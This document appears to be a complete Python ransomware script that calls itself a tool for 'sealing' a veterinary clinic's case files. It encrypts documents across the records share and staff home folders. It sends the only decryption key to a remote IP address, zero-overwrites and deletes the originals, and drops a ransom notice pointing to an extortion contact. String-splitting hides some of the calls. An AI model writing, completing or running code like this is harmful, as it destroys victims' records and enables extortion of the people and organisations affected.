#!/usr/bin/env python3
"""Seal the clinic's case folders.

Walks the vet records share and the clinic staff home folders, seals every
case document, and leaves a notice in each folder explaining how the
records office can get them opened again.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("case-seal")

NOTICE_NAME = "RECORDS_SEALED_README.txt"
NOTICE_TEXT = """All case files in this folder have been sealed.

Reference: {ref}

The clinic's records will stay sealed until the arrangement sent to the
centre director has been met. Contact records-desk@sealwatch.example with
the reference above. Renaming or editing the .sealed files will make them
impossible to recover.
"""


@dataclass
class SealJob:
    roots: list
    suffixes: tuple = (".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".dcm", ".odt")
    marker: str = ".sealed"
    ref: str = field(default_factory=lambda: os.urandom(6).hex())
    done: int = 0


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    kind = getattr(mod, "Fer" + "net")
    key = kind.generate_key()
    return kind(key), key


def _report_key(job, key):
    record = json.dumps(
        {"ref": job.ref, "host": socket.gethostname(), "k": key.decode()}
    ).encode()
    with socket.create_connection(("198.51.100.61", 8443), timeout=20) as conn:
        conn.sendall(record + b"\n")


def candidates(job):
    for root in job.roots:
        base = Path(root).expanduser()
        if not base.is_dir():
            continue
        for path in base.rglob("*"):
            if path.is_file() and path.suffix.lower() in job.suffixes:
                yield path


def _discard(path):
    size = path.stat().st_size
    with open(path, "r+b") as fh:
        fh.write(b"\0" * size)
    getattr(os, "un" + "link")(path)


def seal_one(cipher, job, path):
    sealed = path.with_name(path.name + job.marker)
    sealed.write_bytes(cipher.encrypt(path.read_bytes()))
    _discard(path)
    job.done += 1


def leave_notices(job, folders):
    text = NOTICE_TEXT.format(ref=job.ref)
    for folder in folders:
        try:
            (folder / NOTICE_NAME).write_text(text)
        except OSError:
            pass


def run(job):
    cipher, key = _cipher_factory()
    _report_key(job, key)
    del key
    touched = set()
    for path in candidates(job):
        try:
            seal_one(cipher, job, path)
            touched.add(path.parent)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
    leave_notices(job, touched)
    LOG.info("sealed %d files across %d folders (ref %s)", job.done, len(touched), job.ref)


def default_roots():
    roots = [os.environ.get("VET_RECORDS", "/srv/vetrecords")]
    homes = Path("/home")
    if homes.is_dir():
        roots.extend(str(h) for h in homes.iterdir() if h.is_dir())
    return roots


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("roots", nargs="*")
    p.add_argument("-q", "--quiet", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    job = SealJob(roots=args.roots or default_roots())
    run(job)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
